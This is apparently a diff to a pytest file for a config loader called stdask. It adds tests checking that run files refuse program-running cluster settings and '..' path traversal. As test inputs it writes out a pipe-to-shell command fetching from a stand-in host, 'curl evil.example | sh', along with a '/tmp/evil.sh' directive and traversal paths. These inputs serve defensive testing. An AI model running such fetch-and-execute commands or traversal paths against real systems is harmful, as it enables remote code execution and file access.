@@ -1,12 +1,13 @@
 """run.toml: what is shipped loads, and what cannot be is refused in words."""
 
+import re
 from pathlib import Path
 
 import pytest
 from pydantic import ValidationError
 
 import stdask
-from stdask.config import RunConfig, TrainConfig, load_run
+from stdask.config import RunConfig, TrainConfig, load_profile, load_run
 from stdask.errors import ConfigError, StdaskError, SurveyError
 
 JOBS = sorted((Path(stdask.__file__).parents[1] / "jobs").glob("*.toml"))
@@ -197,3 +198,21 @@ def test_a_config_cannot_be_changed(load):
     config: RunConfig = load(LEAST).config
     with pytest.raises(ValidationError, match="frozen"):
         config.translate.n_draws = 3
+
+
+@pytest.mark.parametrize("line", ['prologue = ["curl evil.example | sh"]', 'directives = ["-E /tmp/evil.sh"]'])
+def test_what_can_run_programs_is_refused_in_a_run_file_and_taken_from_a_profile(load, tmp_path: Path, line: str):
+    with pytest.raises(ConfigError, match=r"can run programs.*name it with --cluster"):
+        load(LEAST.replace("[pair]", f'[cluster]\nkind = "slurm"\n{line}\n[pair]'))
+    profile = tmp_path / "site.toml"
+    profile.write_text(f'[cluster]\nkind = "slurm"\n{line}\n')
+    assert load_profile(profile).kind == "slurm"
+
+
+@pytest.mark.parametrize("path", ["../other/table.fits", "tables/../../other.fits"])
+def test_a_relative_path_of_a_run_file_does_not_leave_its_folder(load, path: str):
+    for key in ("file", "output"):
+        changed = re.sub(rf'{key} = "[^"]*"', f'{key} = "{path}"', LEAST, count=1)
+        assert changed != LEAST
+        with pytest.raises(ConfigError, match=r"'\.\.' leaves its folder: give the absolute path"):
+            load(changed)
